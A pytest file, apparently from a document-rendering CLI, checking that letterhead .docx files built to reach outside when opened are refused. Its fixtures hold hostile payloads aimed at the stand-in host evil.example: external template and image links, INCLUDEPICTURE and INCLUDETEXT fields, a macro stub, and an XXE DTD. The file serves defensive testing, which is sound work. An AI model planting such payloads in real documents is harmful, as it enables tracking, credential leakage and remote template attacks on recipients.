"""Letterheads that would make the protocol reach outside when counsel opens it (issue 12).

Each variant hides an outside link, a macro, a fetching field or a DTD in a way the
old string match missed; each is refused with one line, and no document is written.
"""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import Any

import pytest

from helpers.documents import letterhead
from helpers.platforms import needs_device, needs_fifo
from helpers.sessions import minimal_data, write_session
from isp_cli.commands.render import render_protocol
from isp_cli.errors import StyleDocumentError

_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _rels(relationship: str, declaration: str = "") -> str:
    return f'{declaration}<Relationships xmlns="{_RELS_NS}">{relationship}</Relationships>'


def _with_part(tmp_path: Path, name: str, data: bytes | str) -> Path:
    reference = letterhead(tmp_path / "org.docx")
    with zipfile.ZipFile(reference, "a") as archive:
        archive.writestr(name, data)
    return reference


def _field_header(instruction: str) -> str:
    return (
        f'<w:hdr xmlns:w="{_W}"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'
    )


HOSTILE: dict[str, tuple[str, Any, str]] = {
    "single quotes": (
        "word/_rels/x.xml.rels",
        _rels(
            f"<Relationship Id='r9' Type='{_IMAGE}' Target='http://evil.example/a.png' "
            "TargetMode='External'/>"
        ),
        "outside file or address",
    ),
    "entity-encoded mode": (
        "word/_rels/x.xml.rels",
        _rels(
            f'<Relationship Id="r9" Type="{_IMAGE}" Target="http://evil.example/a.png" '
            'TargetMode="&#69;xternal"/>'
        ),
        "outside file or address",
    ),
    "whitespace around =": (
        "word/_rels/x.xml.rels",
        _rels(
            f'<Relationship Id="r9" Type="{_IMAGE}" Target="http://evil.example/a.png" '
            'TargetMode\n =\t"External" />'
        ),
        "outside file or address",
    ),
    "UTF-16 rels": (
        "word/_rels/x.xml.rels",
        _rels(
            f'<Relationship Id="r9" Type="{_IMAGE}" Target="\\\\evil\\share\\a.png" '
            'TargetMode="External"/>',
            '<?xml version="1.0" encoding="UTF-16"?>',
        ).encode("utf-16"),
        "outside file or address",
    ),
    "attached template on the web": (
        "word/_rels/settings.xml.rels",
        _rels(
            f'<Relationship Id="rT" Type="{_TEMPLATE}" Target="https://evil.example/t.dotm" '
            'TargetMode="External"/>'
        ),
        "outside file or address",
    ),
    "no TargetMode but a URL": (
        "word/_rels/x.xml.rels",
        _rels(f'<Relationship Id="r9" Type="{_IMAGE}" Target="https://evil.example/a.png"/>'),
        "outside file or address",
    ),
    "INCLUDEPICTURE field": (
        "word/header9.xml",
        _field_header(' INCLUDEPICTURE "http://evil.example/pixel.png" \\d '),
        "INCLUDEPICTURE field",
    ),
    "fldSimple INCLUDETEXT": (
        "word/footer9.xml",
        f'<w:ftr xmlns:w="{_W}"><w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\evil\\\\x'
        '.docx&quot; "/></w:p></w:ftr>',
        "INCLUDETEXT field",
    ),
    "macros in a plain .docx": ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro", "macros"),
    "DTD with an external entity": (
        "word/_rels/x.xml.rels",
        _rels(
            "<Relationship Id='r9' Type='x' Target='&ext;'/>",
            '<!DOCTYPE r [<!ENTITY ext SYSTEM "http://evil.example/dtd">]>',
        ),
        "DTD",
    ),
    "internal entity expansion": (
        "word/custom.xml",
        '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
        "DTD",
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_letterhead_is_refused(tmp_path: Path, case: str) -> None:
    name, data, expected = HOSTILE[case]
    reference = _with_part(tmp_path, name, data)
    session = write_session(tmp_path, minimal_data())
    before = reference.read_bytes()
    with pytest.raises(StyleDocumentError, match=expected) as caught:
        render_protocol(file=session, reference_docx=reference)
    assert "\n" not in str(caught.value)
    assert not (tmp_path / "s.docx").exists()
    assert reference.read_bytes() == before


def test_hostile_letterhead_at_the_command_line(cli: Any, tmp_path: Path) -> None:
    name, data, _ = HOSTILE["attached template on the web"]
    reference = _with_part(tmp_path, name, data)
    session = write_session(tmp_path, minimal_data())
    code, out, err = cli("render", str(session), "--reference-docx", str(reference))
    assert code == 1 and out == ""
    assert err.count("\n") == 1 and "https://evil.example/t.dotm" in err


def test_a_hyperlink_and_printer_settings_are_fine(tmp_path: Path) -> None:
    reference = _with_part(
        tmp_path,
        "word/_rels/x.xml.rels",
        _rels(
            '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/hyperlink" Target="https://metro.example.gov" TargetMode="External"/>'
        ),
    )
    with zipfile.ZipFile(reference, "a") as archive:
        archive.writestr("word/printerSettings/printerSettings1.bin", b"\0" * 100)
    session = write_session(tmp_path, minimal_data())
    assert render_protocol(file=session, reference_docx=reference).path.exists()


@pytest.mark.parametrize(
    "kind",
    [
        "folder",
        pytest.param("fifo", marks=needs_fifo),
        pytest.param("device", marks=needs_device("/dev/zero")),
    ],
)
def test_letterhead_that_is_not_a_file(tmp_path: Path, kind: str) -> None:
    import os

    reference = tmp_path / "org.docx"
    if kind == "folder":
        reference.mkdir()
    elif kind == "fifo":
        os.mkfifo(reference)
    else:
        reference = Path("/dev/zero")
    session = write_session(tmp_path, minimal_data())
    with pytest.raises(StyleDocumentError, match="cannot be read: it is a"):
        render_protocol(file=session, reference_docx=reference)
